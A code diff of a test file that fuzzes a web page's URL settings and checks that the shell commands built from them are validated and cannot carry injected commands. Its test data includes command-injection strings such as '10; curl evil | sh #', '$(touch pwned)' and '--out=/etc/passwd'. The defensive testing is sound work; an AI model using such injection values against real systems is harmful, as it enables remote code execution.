@@ -7,9 +7,21 @@ import { require } from "./program.mjs";
 
 // The module as the page has it, without its types.
 const typescript = require("typescript");
-const source = readFileSync(new URL("../../docs/explorer/src/settings.ts", import.meta.url), "utf8");
-const compiled = typescript.transpileModule(source, { compilerOptions: { module: "ESNext", target: "ES2022" } }).outputText;
-const { commandLine, named, number, oneOf, rates, shellWord, text, weights, whole, wrongSettings } = await import(`data:text/javascript,${encodeURIComponent(compiled)}`);
+const compiled = (path) => typescript.transpileModule(readFileSync(new URL(`../../docs/explorer/src/${path}.ts`, import.meta.url), "utf8"), { compilerOptions: { module: "ESNext", target: "ES2022" } }).outputText;
+const address = (code) => `data:text/javascript,${encodeURIComponent(code)}`;
+const settingsModule = address(compiled("settings"));
+const { commandLine, named, number, oneOf, rates, shellWord, text, weights, whole, wrongSettings } = await import(settingsModule);
+
+// A view as the page has it, without what draws: all that it imports for that is an empty object. `names`: functions of its own.
+async function viewOf(path, ...names) {
+  const drawn = (code) => code.replace(/^import (.*) from "(.*)";$/gm, (line, what, from) => {
+    if (/settings$/.test(from)) return `import ${what} from ${JSON.stringify(settingsModule)};`;
+    if (/\/view$/.test(from)) return `import ${what} from ${JSON.stringify(workloadModule)};`;
+    return what.startsWith("*") ? `const ${what.replace("* as ", "")} = {};` : `const ${what.replace(/\bas\b/g, ":")} = {};`;
+  });
+  const workloadModule = address(drawn(compiled("view")));
+  return import(address(`${drawn(compiled(path))}\nexport { ${names.join(", ")} };`));
+}
 
 const hostile = ["10; curl evil | sh #", "$(touch pwned)", "`touch pwned`", "a'b", 'a"b', "a\nb", "a\\", "", " ", "~", "*", "-x", "--out=/etc/passwd", "a&b", "a|b", "a>b", "ä", "\u202e", "!x", "{a,b}", "#", "a b", "1e999", "0x10", "NaN", "Infinity", "1;", "constructor", "__proto__"];
 const parts = { model: ["llama-3.1-8b"], verifier: [{ name: "token" }] };
@@ -45,6 +57,73 @@ test("every wrong setting is told with what is allowed", () => {
   assert.deepEqual(wrongSettings({ longest: "10; curl x | sh #", gpus: "1", batch: "0", other: ";" }, checks, parts), ['longest: "10; curl x | sh #", allowed: a whole number in [1, 32]', 'batch: "0", allowed: a whole number in [1, 512]']);
   assert.deepEqual(wrongSettings({ __proto__: null, constructor: "x", toString: "y" }, checks, parts), []);
 });
+
+// Settings that a page's address may hold, drawn at random: such as a view writes itself, these with a few characters put in, taken out or
+// put behind, and texts of any characters.
+function random(seed) {
+  let state = seed;
+  const next = (count) => {
+    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
+    return Math.floor((state / 2 ** 32) * count);
+  };
+  const pick = (list) => list[next(list.length)];
+  const bits = [..."0123456789.,-+eE% ;|&$`'\"\\\n\r\t\0(){}[]<>*?~!#=/:@^ä\u202e\u2028\ud800\uffff", "--out=", "$(", "; sh ", "../", "NaN", "Infinity", "1e", "0x"];
+  const character = () => (next(8) === 0 ? String.fromCharCode(next(0x3000)) : pick(bits));
+  const changed = (value) => {
+    let own = [...value];
+    for (let i = next(3) + 1; i > 0; --i) own.splice(next(own.length + 1), next(2), ...(next(4) > 0 ? [character()] : []));
+    return own.join("");
+  };
+  const any = () => Array.from({ length: next(12) }, character).join("");
+  return { next, pick, changed, any };
+}
+
+for (const [path, commandOf] of [["views/decide", "acceptanceOptions, workloadOptions"], ["views/serve", "command"]])
+  test(`an address says what it means or is refused: ${path}`, async () => {
+    const names = { hardware: ["h100-sxm", "l4"], model: ["llama-3.1-8b", "llama-3.2-1b", "eagle-head-8b"], engine: ["vllm"], acceptance: ["eagle-vicuna-7b-chat"], verifier: ["token"] };
+    const module = await viewOf(path, ...commandOf.split(", "));
+    const view = Object.values(module).find((own) => own?.allowed !== undefined);
+    assert.deepEqual(wrongSettings(view.defaults, view.allowed, names), [], "what the view has at first");
+    assert.deepEqual(Object.keys(view.defaults).filter((key) => view.allowed[key] === undefined), [], "settings that nothing checks");
+    const words = (settings) =>
+      path === "views/serve" ? module.command(settings) : commandLine(["specsim", "plan", ...module.workloadOptions(settings), ...module.acceptanceOptions(settings), "--longest", settings.longest]);
+    const draw = random(20261129);
+    const keys = Object.keys(view.defaults);
+    const lines = [];
+    let refused = 0;
+    for (let turn = 0; turn < 20000; ++turn) {
+      const given = {};
+      for (let i = draw.next(2) + 1; i > 0; --i) {
+        const key = draw.pick(keys);
+        const usual = [view.defaults[key], "alpha", "position_rates", "rate", "line", "gpu", "concurrency", "fixed", "2", "0.5", "none", "yes", "vllm", "0.7, 45%"];
+        const from = draw.next(3) > 0 ? view.defaults[key] : draw.pick(usual);
+        given[key] = draw.next(3) === 0 ? from : draw.next(3) > 0 ? draw.changed(from) : draw.any();
+      }
+      // As the address carries it: lone surrogates do not survive that, whoever writes them.
+      const read = Object.fromEntries(new URLSearchParams(new URLSearchParams(given).toString()));
+      if (wrongSettings(read, view.allowed, names).length > 0) {
+        ++refused;
+        continue;
+      }
+      lines.push(words({ ...view.defaults, ...read }));
+    }
+    assert.ok(refused > 1000 && lines.length > 1000, `${refused} refused, ${lines.length} taken`);
+    // What a shell makes of all of these lines: words of harmless characters, options where options are, and no other command.
+    const shell = lines.map((line) => `words ${line.replaceAll("\n", " ")}`).join("\n");
+    assert.doesNotMatch(lines.join(""), /[\n\r\0`$]/);
+    const out = execFileSync("bash", ["-s"], { input: `set -eu; PATH=; words() { printf '%s\\x01' "$@"; printf '\\x02'; }\n${shell}\n`, encoding: "utf8", maxBuffer: 1e9 });
+    const told = out.split("\x02").slice(0, -1).map((line) => line.split("\x01").slice(0, -1));
+    assert.equal(told.length, lines.length);
+    for (const [i, list] of told.entries()) {
+      assert.equal(commandLine(list), lines[i]);
+      assert.deepEqual(list.slice(0, 2), ["specsim", path === "views/serve" ? "serve" : "plan"]);
+      for (let at = 2; at < list.length; at += 2) {
+        assert.match(list[at], /^--[a-z-]+$/, lines[i]);
+        assert.match(list[at + 1], /^[A-Za-z0-9_.,%+:{}=\[\] -]*$/, lines[i]);
+        assert.doesNotMatch(list[at + 1], /^--/, lines[i]);
+      }
+    }
+  });
 
 test("commands are put together from words", () => {
   for (const name of ["decide", "serve"]) {
